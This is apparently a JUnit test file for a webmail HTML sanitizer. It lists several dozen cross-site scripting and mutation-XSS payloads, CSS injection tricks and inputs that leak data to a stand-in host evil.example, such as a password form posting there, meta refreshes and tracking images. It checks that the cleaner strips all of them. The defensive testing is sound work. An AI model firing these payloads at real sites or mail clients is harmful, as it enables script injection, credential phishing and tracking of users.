package org.mailherd.webmail.html;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import java.util.Optional;
import org.jsoup.Jsoup;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The attack classes of the threat list, number 17; each line stands for a published bypass. */
class HtmlCleanerTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "<svg onload=alert(1)><animate attributeName=href values=javascript:alert(1) />",
                "<svg><a><animate attributeName=href values='javascript:alert(1)'/><text>x</text></a>",
                "<svg><set attributeName=onmouseover to=alert(1)></svg>",
                "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
                "<math href=javascript:alert(1)>x</math>",
                "<a href=javascript:alert(1)>x</a>",
                "<a href='java&#10;script:alert(1)'>x</a>",
                "<a href='&#1;javascript:alert(1)'>x</a>",
                "<a href=data:text/html,<script>alert(1)</script>>x</a>",
                "<a href=blob:https://x/y>x</a>",
                "<a href=vbscript:msgbox(1)>x</a>",
                "<img src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+>",
                "<img src=data:text/html;base64,PHNjcmlwdD4=>",
                "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "<object data=javascript:alert(1)></object><embed src=//evil.example/x>",
                "<form action=https://evil.example><input name=password><button>Go</button></form>",
                "<input type=image src=https://evil.example/x formaction=javascript:alert(1)>",
                "<meta http-equiv=refresh content='0;url=https://evil.example'>",
                "<base href=https://evil.example/>",
                "<link rel=stylesheet href=https://evil.example/x.css>",
                "<link rel=prefetch href=https://evil.example/x>",
                "<style>@import url(https://evil.example/x.css);</style>",
                "<style>*{background:url(https://evil.example/x)}</style>",
                "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
                "<title><img src=x onerror=alert(1)></title>",
                "<textarea></textarea><script>alert(1)</script>",
                "<xmp><img src=x onerror=alert(1)></xmp>",
                "<template><img src=x onerror=alert(1)></template>",
                "<!--><img src=x onerror=alert(1)>-->",
                "<p><!--[if mso]><script>alert(1)</script><![endif]--></p>",
                "<div is=x-y data-x onclick=alert(1) id=mail name=cookie class=mh-mail>x</div>",
                "<video src=https://evil.example/x poster=https://evil.example/y autoplay></video>",
                "<audio src=https://evil.example/x></audio><source srcset=https://evil.example/x>",
                "<img srcset='https://evil.example/x 2x'>",
                "<body background=https://evil.example/x onload=alert(1)>",
                "<table background=https://evil.example/x><tr><td background=//evil.example/y>",
                "<a ping=https://evil.example/x href=https://good.example>x</a>",
                "<details open ontoggle=alert(1)>x</details>",
                "<marquee onstart=alert(1)>x</marquee>",
                "<isindex action=javascript:alert(1)>",
            })
    void letsNothingActiveThrough(String attack) {
        for (var clean :
                new String[] {reading("<p>before</p>" + attack), HtmlCleaner.forSending(attack)}) {
            assertHarmless(clean);
        }
    }

    /**
     * Mutation: what a browser makes of the clean text, written down and read again, stays clean.
     */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x"
                        + " onerror=alert(1)>'>",
                "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
                "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
                "<p title='&lt;/noscript>&lt;img src=x onerror=alert(1)>'>x",
                "<a href='https://x/\"onmouseover=alert(1)'>x</a>",
                "<img alt='`onerror=alert(1)' src=https://x/y>",
                "&lt;script&gt;alert(1)&lt;/script&gt;<b>x",
                "<table><a href=https://x><table><td><script>alert(1)</script>",
            })
    void staysCleanWhenABrowserRewritesIt(String attack) {
        var once = reading(attack);
        var rewritten = Jsoup.parse(once).body().html();
        assertHarmless(rewritten);
        assertHarmless(Jsoup.parse(reading(rewritten)).body().html());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "background:url(https://evil.example/x)",
                "background-image:url('https://evil.example/x')",
                "background:u\\72l(https://evil.example/x)",
                "list-style-image:url(//evil.example/x)",
                "background:image-set('https://evil.example/x' 1x)",
                "--x:url(https://evil.example/x);background:var(--x)",
                "width:expression(alert(1))",
                "behavior:url(https://evil.example/x)",
                "-moz-binding:url(https://evil.example/x)",
                "cursor:url(https://evil.example/x),auto",
                "content:url(https://evil.example/x)",
                "border-image:url(https://evil.example/x) 1",
                "font-family:x;src:url(https://evil.example/x)",
                "color:red;}</style><script>alert(1)</script>",
            })
    void stylesReachNobody(String style) {
        var clean = reading("<p style=\"" + style + "\">x</p>");
        assertThat(clean.toLowerCase(Locale.ROOT))
                .doesNotContain("evil.example", "url(", "var(", "expression", "<script");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999",
                "position:absolute;inset:0",
                "position:sticky",
                "transform:scale(99)",
            })
    void nothingIsLaidOverThePage(String style) {
        assertThat(reading("<div style='" + style + "'>x</div>"))
                .doesNotContain("position", "z-index", "inset", "transform");
    }

    @Test
    void keepsWhatALetterNeeds() {
        var letter =
                "<table width=\"600\" bgcolor=\"#ffffff\"><tr><td style=\"color:#333;padding:4px\">"
                        + "<h1>Hi</h1><p>A <b>word</b> and <a href=\"https://example.org/\">a"
                        + " link</a></p></td></tr></table>";
        var clean = Jsoup.parse(reading(letter));
        assertThat(clean.selectFirst("td").attr("style")).contains("color", "padding");
        assertThat(clean.selectFirst("table").attr("bgcolor")).isEqualTo("#ffffff");
        assertThat(clean.selectFirst("a").attr("target")).isEqualTo("_blank");
        assertThat(clean.selectFirst("a").attr("rel")).contains("noopener", "noreferrer");
        assertThat(clean.text()).isEqualTo("Hi A word and a link");
    }

    @Test
    void holdsPicturesFromElsewhereBackUntilAllowed() {
        var letter = "<img src=\"https://example.org/a.png\"><img src='http://example.org/b.gif'>";
        var held = HtmlCleaner.forReading(letter, false, InlinePictures.NONE);
        assertThat(held.blockedImages()).isEqualTo(2);
        assertThat(held.html()).doesNotContain("example.org");
        var shown = HtmlCleaner.forReading(letter, true, InlinePictures.NONE);
        assertThat(shown.blockedImages()).isZero();
        assertThat(shown.html()).contains("https://example.org/a.png", "http://example.org/b.gif");
    }

    @Test
    void showsThePicturesThatTravelInside() {
        InlinePictures pictures =
                id ->
                        id.equals("a@b")
                                ? Optional.of("data:image/png;base64,AAAA")
                                : Optional.empty();
        var clean =
                HtmlCleaner.forReading(
                        "<img src=\"cid:a%40b\"><img src=\"cid:other\">", false, pictures);
        assertThat(Jsoup.parse(clean.html()).select("img[src]")).hasSize(1);
        assertThat(clean.html()).contains("data:image/png;base64,AAAA");
        assertThat(clean.blockedImages()).isZero();
    }

    private static String reading(String html) {
        return HtmlCleaner.forReading(html, false, InlinePictures.NONE).html();
    }

    private static void assertHarmless(String clean) {
        var document = Jsoup.parse(clean);
        assertThat(
                        document.body()
                                .select(
                                        "script,svg,math,style,iframe,object,embed,form,input,button,"
                                                + "meta,base,link,video,audio,source,noscript,textarea,"
                                                + "template,title"))
                .isEmpty();
        for (var element : document.body().select("*")) {
            for (var attribute : element.attributes()) {
                var name = attribute.getKey().toLowerCase(Locale.ROOT);
                var value = attribute.getValue().toLowerCase(Locale.ROOT).replaceAll("\\s", "");
                assertThat(name).doesNotStartWith("on").doesNotStartWith("data-");
                assertThat(name)
                        .isNotIn("srcset", "background", "ping", "id", "name", "class", "poster");
                if (name.equals("href") || name.equals("src")) {
                    assertThat(value)
                            .matches("(https?://|mailto:|data:image/(png|jpe?g|gif|webp);).*");
                }
            }
        }
    }
}
